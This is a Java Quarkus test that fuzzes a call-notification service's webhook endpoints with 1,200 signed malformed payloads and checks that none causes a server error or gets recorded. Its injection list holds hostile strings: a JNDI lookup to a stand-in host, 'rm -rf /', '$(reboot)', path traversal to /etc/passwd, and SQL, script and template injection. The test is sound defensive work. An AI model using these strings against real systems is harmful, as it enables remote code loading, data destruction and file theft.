package dev.textback.ingest.limits;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Supplier;

import org.jboss.logging.Logger;
import org.junit.jupiter.api.Test;

import dev.textback.crm.events.BusinessProfile;
import dev.textback.ingest.CallsTopic;
import dev.textback.ingest.Signing;
import dev.textback.ingest.TestBusinesses;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;

/**
 * 1,200 generated hostile payloads, correctly signed so they reach the parsers: truncated JSON,
 * oversized fields, wrong types, injection strings, absurd numbers, broken dates. Every one must get
 * a 2xx-without-recording or a 4xx, never a 5xx, and nothing may be published for the business.
 */
@QuarkusTest
class HostilePayloadsTest {
    private static final Logger LOG = Logger.getLogger(HostilePayloadsTest.class);
    private static final int PER_ENDPOINT = 300;
    private static final List<String> INJECTIONS = List.of("' OR '1'='1' --", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "\u0000\u0001\u0002", "%00%0d%0a",
            "{{7*7}}", "#{7*7}", "\r\nSet-Cookie: a=b", "😀".repeat(40), "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "\\\"\\\\", "; rm -rf /",
            "$(reboot)", "a b", "id\twith\ttabs");
    private static final List<String> ABSURD_NUMBERS = List.of("1e308", "-1", "NaN", "Infinity", "-Infinity",
            "99999999999999999999999", "1.5", "1e99999", "0x10", "9".repeat(80), "-9223372036854775809");

    @TestHTTPResource("/webhooks/twilio/voice/status")
    String twilioUrl;

    private final Random random = new Random(20261127L);

    private String pick(List<String> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** A JSON string literal for any text, escaped by hand so the payload stays exactly what we chose. */
    private static String quote(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> b.append("\\\"");
                case '\\' -> b.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        b.append(String.format("\\u%04x", (int) c));
                    } else {
                        b.append(c);
                    }
                }
            }
        }
        return b.append('"').toString();
    }

    /** A value that makes a field invalid: wrong type, oversized, absurd or injected. */
    private String badValue(boolean numeric) {
        return switch (random.nextInt(6)) {
            case 0 -> "{\"nested\":" + quote(pick(INJECTIONS)) + "}";
            case 1 -> "[" + quote(pick(INJECTIONS)) + ",1,null]";
            case 2 -> quote("x".repeat(257 + random.nextInt(5000)));
            case 3 -> numeric ? pick(ABSURD_NUMBERS).replace("NaN", "\"NaN\"") : quote(pick(INJECTIONS));
            case 4 -> quote(pick(INJECTIONS));
            default -> "{}";
        };
    }

    private String json(Map<String, String> fields) {
        StringBuilder b = new StringBuilder("{");
        fields.forEach((k, v) -> b.append(b.length() > 1 ? "," : "").append(quote(k)).append(':').append(v));
        return b.append('}').toString();
    }

    /** Mutates one field that decides validity (never only the caller), or truncates the body. */
    private String hostileJson(Map<String, String> valid, List<String> fatalFields, List<String> numericFields) {
        Map<String, String> fields = new LinkedHashMap<>(valid);
        if (random.nextInt(5) == 0) {
            String whole = json(fields);
            return whole.substring(0, 1 + random.nextInt(whole.length() - 2));
        }
        String field = pick(fatalFields);
        fields.put(field, badValue(numericFields.contains(field)));
        if (random.nextBoolean()) {
            fields.put("from", quote(pick(INJECTIONS))); // a hostile caller on top of the fatal field
        }
        return json(fields);
    }

    @Test
    void noHostilePayloadGetsA5xxOrPublishesAnything() throws Exception {
        String number = TestBusinesses.randomNumber();
        BusinessProfile business = TestBusinesses.publish(number);
        String id = business.businessId();
        Map<Integer, Integer> statuses = new TreeMap<>();
        int sent = 0;

        Map<String, String> vonage = new LinkedHashMap<>();
        vonage.put("uuid", quote("63f61863-4a51-4f6b-86e1-46edebcf9356"));
        vonage.put("status", quote("unanswered"));
        vonage.put("from", quote("14155550191"));
        vonage.put("to", quote(number.substring(1)));
        vonage.put("timestamp", quote("2026-11-20T15:04:05.000Z"));
        vonage.put("end_time", quote("2026-11-20T15:04:05.000Z"));
        vonage.put("duration", quote("0"));
        for (int i = 0; i < PER_ENDPOINT; i++) {
            String body = hostileJson(vonage, List.of("uuid", "duration", "timestamp", "end_time", "status", "to"),
                    List.of("duration"));
            int status = given().contentType("application/json").header("Authorization", Signing.vonage(body))
                    .body(body).post("/webhooks/vonage/voice/event").statusCode();
            sent++;
            record(statuses, status, body);
        }

        Map<String, String> generic = new LinkedHashMap<>();
        generic.put("callId", quote("pbx-1"));
        generic.put("from", quote("+14155550192"));
        generic.put("to", quote(number));
        generic.put("startedAt", quote("2026-11-20T15:03:00Z"));
        generic.put("endedAt", quote("2026-11-20T15:03:25Z"));
        generic.put("outcome", quote("missed"));
        generic.put("durationSeconds", "25");
        for (int i = 0; i < PER_ENDPOINT; i++) {
            String body = hostileJson(generic, List.of("callId", "endedAt", "startedAt", "outcome", "durationSeconds",
                    "to"), List.of("durationSeconds"));
            long now = Instant.now().getEpochSecond();
            int status = given().contentType("application/json").header("X-Textback-Timestamp", String.valueOf(now))
                    .header("X-Textback-Signature", Signing.generic(id, now, body)).body(body)
                    .post("/webhooks/generic/" + id + "/calls").statusCode();
            sent++;
            record(statuses, status, body);
        }

        for (int i = 0; i < PER_ENDPOINT; i++) {
            Map<String, String> form = new LinkedHashMap<>();
            form.put("CallSid", "CA00000000000000000000000000000001");
            form.put("CallStatus", "no-answer");
            form.put("From", "+14155550193");
            form.put("To", number);
            form.put("CallDuration", "0");
            String field = pick(List.of("CallSid", "CallDuration", "CallStatus", "To", "DialCallDuration"));
            boolean numeric = field.endsWith("Duration");
            Supplier<String> bad = () -> switch (random.nextInt(4)) {
                case 0 -> "x".repeat(257 + random.nextInt(3000));
                case 1 -> numeric ? pick(ABSURD_NUMBERS) : pick(INJECTIONS).replace("\u0000", "");
                default -> pick(INJECTIONS).replace("\u0000", "");
            };
            form.put(field, bad.get());
            if (field.equals("DialCallDuration")) {
                form.put("DialCallStatus", "no-answer");
            }
            Map<String, List<String>> params = new LinkedHashMap<>();
            form.forEach((k, v) -> params.put(k, List.of(v)));
            int status = given().contentType("application/x-www-form-urlencoded; charset=UTF-8").formParams(form)
                    .header("X-Twilio-Signature", Signing.twilio(twilioUrl, params))
                    .post("/webhooks/twilio/voice/status").statusCode();
            sent++;
            record(statuses, status, form.toString());
        }

        for (int i = 0; i < PER_ENDPOINT; i++) {
            // the answer webhook, as GET query; a forwarding business would never publish, this one
            // would for a valid call, so every query here carries a fatal field
            String field = pick(List.of("uuid", "to"));
            String value = field.equals("uuid") ? pick(INJECTIONS) + random.nextInt() : "x".repeat(300);
            int status = given().header("Authorization", Signing.vonage("")).urlEncodingEnabled(true)
                    .queryParam("uuid", field.equals("uuid") ? value : "63f61863-4a51-4f6b-86e1-46edebcf9356")
                    .queryParam("to", field.equals("to") ? value : number.substring(1))
                    .queryParam("from", pick(INJECTIONS))
                    .get("/webhooks/vonage/voice/answer").statusCode();
            sent++;
            record(statuses, status, field + "=" + value);
        }

        LOG.infof("hostile payloads: %d sent, responses by status %s", sent, statuses);
        assertTrue(sent >= 1_200, "at least 1,200 payloads");
        assertTrue(statuses.keySet().stream().allMatch(s -> s >= 200 && s < 500 && s != 200),
                "never a 5xx, never recorded: " + statuses);
        assertEquals(0, CallsTopic.forBusiness(id, 0).size(), "nothing published for the business");
    }

    private void record(Map<Integer, Integer> statuses, int status, String payload) {
        statuses.merge(status, 1, Integer::sum);
        if (status >= 500 || status == 200) {
            LOG.errorf("hostile payload got %d: %s", status, payload.length() > 300 ? payload.substring(0, 300) : payload);
        }
    }
}
